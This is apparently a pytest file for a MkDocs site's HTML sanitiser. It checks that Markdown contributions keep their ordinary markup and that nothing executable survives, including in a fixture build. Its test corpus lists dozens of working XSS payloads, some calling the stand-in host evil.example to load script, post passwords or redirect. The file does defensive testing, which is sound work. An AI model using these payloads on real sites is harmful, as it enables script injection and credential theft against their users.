"""The build's sanitiser (aixutra/site/sanitize.py): what Markdown and the site's enabled
extensions produce survives; nothing executable does, whatever a contribution contains.

The attack corpus is rendered with the site's own Markdown configuration (read from
mkdocs.yml, so a newly enabled extension is tested too), sanitised, and read back with an
HTML parser. A fixture site is then built through the real build with the validator
switched off, and its pages scanned.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import pytest
from mkdocs.utils.yaml import yaml_load

import aixutra.site.hooks as site_hooks
from aixutra.build import build_site
from aixutra.model import Hub
from aixutra.site.sanitize import TAGS, URL_SCHEMES, clean

from .hubs import ROOT, make_hub
from .sitescan import executable_content, third_party_loads


def render(text: str) -> str:
    """Markdown to HTML exactly as the site's configuration does it."""
    with (ROOT / "mkdocs.yml").open("rb") as fh:
        extensions = yaml_load(fh)["markdown_extensions"]
    names, configs = [], {}
    for ext in extensions:
        if isinstance(ext, dict):
            (name, config), = ext.items()
            names.append(name)
            configs[name] = config or {}
        else:
            names.append(ext)
    return markdown.Markdown(extensions=names, extension_configs=configs).convert(text)


class Parsed(HTMLParser):
    """Every start tag with its attributes, and the text outside tags."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def scheme(url: str) -> str:
    squeezed = "".join(c for c in url if c > " ").lower()
    return squeezed.split(":", 1)[0] if ":" in squeezed.split("/", 1)[0] else ""


def executable(html: str, strict: bool = True) -> list[str]:
    """What could run script or load something from elsewhere in a sanitised fragment.

    strict: every tag must be in the sanitiser's allowlist (not so around the content,
    where the theme and the hub's own decorations add their markup, e.g. SVG icons)."""
    problems = []
    for tag, attrs in Parsed(html).tags:
        if tag in ("script", "iframe", "object", "embed", "form", "style", "base", "meta", "frame", "math"):
            problems.append(f"<{tag}>")
        elif strict and tag not in TAGS:
            problems.append(f"<{tag}> is not in the allowlist")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"{name} on <{tag}>")
            if name in ("href", "src") and scheme(value) and scheme(value) not in URL_SCHEMES:
                problems.append(f"{name}={value!r} on <{tag}>")
            if tag == "img" and name == "src" and (scheme(value) or value.startswith("//")):
                problems.append(f"image from another host: {value!r}")
            if name == "style" and value.replace(" ", "") not in ("text-align:left", "text-align:right", "text-align:center"):
                problems.append(f"style={value!r} on <{tag}>")
            if name in ("id", "name", "for") and value.startswith("__") and not value.startswith("__codelineno-"):
                problems.append(f"{name}={value!r} shadows the theme's elements")
    return problems


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals with a source": '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "event handler": '<p onclick="alert(1)" onmouseover="alert(2)">đoạn</p>',
    "image error handler": '<img src="x.png" onerror="alert(1)">',
    "unclosed tag with a handler": "<img src=x.png onerror=alert(1)//",
    "javascript: link": "[bấm](javascript:alert(1))",
    "javascript: link with entities": "[bấm](&#106;avascript:alert(1))",
    "javascript: in raw HTML with a tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript: with spaces and capitals": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">x</a>',
    "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data: image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "remote image": "![x](https://evil.example/track.png)",
    "protocol-relative image": '<img src="//evil.example/track.png">',
    "reference-style javascript: link": "[bấm][a]\n\n[a]: javascript:alert(1)",
    "SVG with script": "<svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">t</a></svg>",
    "MathML with script": "<math><mtext><script>alert(1)</script></mtext></math>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input type="password" name="p"><button>Gửi</button></form>',
    "style element": "<style>body{background:url(https://evil.example/x)}</style>",
    "style attribute": '<p style="position:fixed;top:0;background:url(https://evil.example/x)">x</p>',
    "base and meta refresh": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "comment break-out": "<!-- --!><script>alert(1)</script> -->",
    "comment break-out in a comment": "<!-- <!-- --><script>alert(1)</script> -->",
    "unclosed comment": "<!-- <script>alert(1)</script>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "attribute list with a handler": 'Đoạn văn.\n{: onclick="alert(1)" }',
    "attribute list on a link": '[x](https://example.org){: onmouseover="alert(1)" }',
    "attribute list on an image": '![x](a.png){: onerror="alert(1)" }',
    "attribute list with a style": "Đoạn văn.\n{: style=\"position:fixed\" }",
    "attribute list with a reserved id": "Đoạn văn.\n{: #__config }",
    "nested tag name": "<scr<script>ipt>alert(1)</script>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "textarea break-out": "<textarea></textarea><script>alert(1)</script></textarea>",
    "title break-out": "</title><script>alert(1)</script>",
    "link with target": '<a href="https://example.org" target="_blank">x</a>',
    "input that is not a checkbox": '<input type="text" value="x" autofocus onfocus="alert(1)">',
    "details with a handler": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "admonition with HTML": '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(2)</script>',
    "task list with HTML": "- [x] <img src=x onerror=alert(1)>",
    "table with HTML": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <a href=\"javascript:alert(2)\">x</a> |",
    "code is shown, not run": "`<script>alert(1)</script>`\n\n```html\n<script>alert(2)</script>\n```",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_executable_survives(name):
    html = clean(render(ATTACKS[name]))
    assert executable(html) == []
    assert "<script" not in html.lower()
    # Sanitising twice changes nothing more: the output is already within the allowlist.
    assert clean(html) == html


def test_code_shows_the_script_as_text():
    html = clean(render(ATTACKS["code is shown, not run"]))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "alert(2)" in "".join(Parsed(html).text)


KITCHEN_SINK = """
# Tiêu đề

Đoạn **đậm** *nghiêng* `mã` [liên kết](../guides/x.md#neo "tiêu đề"), <https://example.org>,
[thư](mailto:vanphong@thainguyen.gov.vn), [gọi](tel:02083000000) và ![ảnh](images/a.png){ width="300" loading=lazy }.

## Bảng {#bang-so-lieu}

| Cột | Số |
|:----|---:|
| a   | 1  |

!!! note "Ghi chú"
    Nội dung.

??? tip "Mở ra"
    Ẩn.

- [x] xong
- [ ] chưa

```python
def f(x):
    return x
```

Thuật ngữ
:   định nghĩa

3. ba
4. bốn

> trích dẫn

Đoạn có lớp.
{: .lop #ma-rieng }

<kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup>
"""


def test_what_markdown_produces_survives():
    before = render(KITCHEN_SINK)
    after = clean(before)
    tags = Parsed(after).tags
    found = {tag for tag, _ in tags}
    assert {"h1", "h2", "p", "strong", "em", "code", "a", "img", "table", "thead", "tbody", "tr", "th", "td",
            "div", "details", "summary", "ul", "li", "input", "pre", "span", "dl", "dt", "dd", "ol",
            "blockquote", "kbd", "sub", "sup"} <= found
    attrs = [(t, a) for t, a in tags]
    assert ("h2", {"id": "bang-so-lieu"}) in attrs
    assert ("a", {"class": "headerlink", "href": "#bang-so-lieu", "title": "Permanent link"}) in attrs
    assert ("a", {"href": "../guides/x.md#neo", "title": "tiêu đề"}) in attrs
    assert ("a", {"href": "mailto:vanphong@thainguyen.gov.vn"}) in attrs
    assert ("a", {"href": "tel:02083000000"}) in attrs
    assert ("img", {"alt": "ảnh", "loading": "lazy", "src": "images/a.png", "width": "300"}) in attrs
    assert ("th", {"style": "text-align:left"}) in attrs and ("td", {"style": "text-align:right"}) in attrs
    assert ("div", {"class": "admonition note"}) in attrs and ("p", {"class": "admonition-title"}) in attrs
    assert ("details", {"class": "tip"}) in attrs
    assert ("input", {"type": "checkbox", "disabled": "", "checked": ""}) in attrs
    assert ("p", {"class": "lop", "id": "ma-rieng"}) in attrs
    assert any(t == "span" and a.get("class") for t, a in tags), "highlighted code keeps its classes"
    # The text is all there: sanitising only ever removes markup.
    assert "".join(Parsed(after).text).split() == "".join(Parsed(before).text).split()


@pytest.fixture(scope="module")
def attack_site(tmp_path_factory):
    """A real build of a hub whose contributions carry the whole corpus, validator off."""
    body = "\n\n".join(f"## {name}\n\n{text}" for name, text in ATTACKS.items())
    # Raw HTML images keep their address on the English pages (one folder deeper): there,
    # only the attacks without a local raw image.
    en_body = "\n\n".join(f"## {name}\n\n{text}" for name, text in ATTACKS.items()
                           if not re.search(r"<img[^>]*src=[\"']?x", text))
    front = ('---\ntitle: "Tấn công <img src=x onerror=alert(1)></title><script>alert(2)</script>"\n'
             'summary: "<script>alert(3)</script> Kho tấn công."\nsectors: [noi-vu]\naudiences: [can-bo]\n'
             'level: co-ban\ntags: []\nunit: ban-bien-tap\nauthors: [{role: "Biên tập viên"}]\n'
             'published: 2026-11-01\nupdated: 2026-11-01\nlicense: CC-BY-4.0\n---\n')
    hub = make_hub(tmp_path_factory.mktemp("attack") / "hub", {
        "guides/tan-cong.vi.md": front + body,
        "guides/tan-cong.en.md": '---\ntranslation_of: "00000000"\ntitle: "Attacks"\nsummary: "x"\n---\n' + en_body,
        # The local images the attacks name exist: every build's links are checked (conftest).
        "guides/x.png": "png", "guides/a.png": "png", "guides/x": "x",
    })
    # Broken links are MkDocs warnings, which strict mode turns into errors: not the point here.
    config = hub / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("strict: true", "strict: false"), encoding="utf-8")
    original = site_hooks.check
    site_hooks.check = lambda root: (Hub.load(root), [])  # the validator would refuse this hub
    try:
        result = build_site(hub, hub / "site")
    finally:
        site_hooks.check = original
    assert result.ok, "\n".join(result.messages)
    return hub / "site"


def test_attack_site_has_nothing_executable(attack_site):
    pages = [attack_site / "guides" / "tan-cong.html", attack_site / "en" / "guides" / "tan-cong.html"]
    assert all(p.is_file() for p in pages)
    assert executable_content(attack_site) == []
    assert third_party_loads(attack_site) == []
    for page in pages:
        html = page.read_text(encoding="utf-8")
        article = html[html.index("<article"):html.index("</article>")]
        assert executable(article, strict=False) == []
        # The readable text of the attacks is still there, as text, and so is the markup
        # Markdown made (headings with their permalinks).
        assert "đoạn" in article and 'class="headerlink"' in article
    # A front matter value is text wherever it is shown.
    vi = pages[0].read_text(encoding="utf-8")
    assert "Tấn công &lt;img src=x onerror=alert(1)&gt;&lt;/title&gt;&lt;script&gt;" in vi
